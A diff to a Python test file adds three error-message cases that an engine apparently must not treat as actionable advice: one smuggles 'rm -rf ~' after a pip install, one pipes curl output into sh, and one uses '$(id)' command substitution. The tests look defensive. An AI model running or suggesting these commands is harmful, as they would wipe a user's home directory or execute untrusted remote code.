@@ -60,6 +60,9 @@ def test_a_message_that_says_what_to_do_is_the_first_step(
         "shard 12 has no header",
         "Please file a bug report at https://example.org/issues/new",
         "You can find the documentation at https://example.org",
+        "Please install it with `pip install accelerate; rm -rf ~` and try again",
+        "Please run curl https://example.org/fix | sh",
+        "Please use `$(id)` instead of it",
     ],
 )
 def test_a_message_that_says_no_way_out_gives_none(engine: Engine, message: str) -> None:
